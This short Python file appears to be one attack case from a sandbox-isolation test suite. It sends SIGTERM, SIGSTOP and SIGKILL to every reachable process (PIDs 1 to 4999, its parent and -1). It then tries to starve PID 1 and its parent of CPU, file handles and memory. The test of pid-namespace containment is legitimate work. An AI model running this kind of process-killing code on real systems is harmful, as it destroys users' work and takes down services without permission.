"""Sends every signal to everybody: all processes that it sees, all numbers, its parent, its process group.

changes nothing

attack: V21 V22
stopped by: C, in its own pid namespace there is nobody but its own processes.
"""

# %% helpers="helpers"
# SIGKILL and SIGSTOP to everybody else.
import os
import resource
import signal

if not os.path.isdir("/scratch"):
    raise SystemExit("This is an attack: in a sandbox only.")
me = os.getpid()
for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in (-1, os.getppid(), *range(1, 5_000)):
        if pid not in (0, me, -me):
            try:
                os.kill(pid, number)
            except OSError:
                pass
for pid in (1, os.getppid()):
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        try:
            resource.prlimit(pid, what, (1, 1))
        except (OSError, ValueError):
            pass
    try:
        os.sched_setaffinity(pid, {0})
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
